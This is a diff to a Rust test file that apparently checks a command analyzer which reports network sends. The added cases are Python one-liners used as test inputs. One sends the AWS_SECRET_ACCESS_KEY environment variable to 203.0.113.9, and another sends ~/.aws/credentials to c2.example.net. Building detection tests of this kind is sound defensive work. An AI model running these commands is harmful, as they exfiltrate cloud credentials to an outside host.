@@ -328,6 +328,21 @@ fn python_sends_with_bodies_from_the_environment_and_files() {
             r#"python3 -c "import socket, os; s = socket.socket(); s.connect(('203.0.113.9', 4444)); s.sendall(os.environ['TOKEN'].encode())""#,
             &["send 203.0.113.9 - [env TOKEN]"],
         ),
+        (
+            r#"python3 -c "import socket, os; s = socket.create_connection(('203.0.113.9', 443)); s.send(os.environ['AWS_SECRET_ACCESS_KEY'].encode())""#,
+            &["send 203.0.113.9 - [env AWS_SECRET_ACCESS_KEY]"],
+        ),
+        (
+            "python3 - <<'EOF'\nimport socket, os\nwith socket.create_connection(('c2.example.net', 9000)) as conn:\n    conn.sendall(open(os.path.expanduser('~/.aws/credentials'), 'rb').read())\nEOF",
+            &[
+                "send c2.example.net - [file ~/.aws/credentials]",
+                "read ~/.aws/credentials",
+            ],
+        ),
+        (
+            r#"python3 -c "import socket; socket.create_connection(('db.internal', 5432)).close()""#,
+            &["send db.internal - []"],
+        ),
     ]);
 }
 
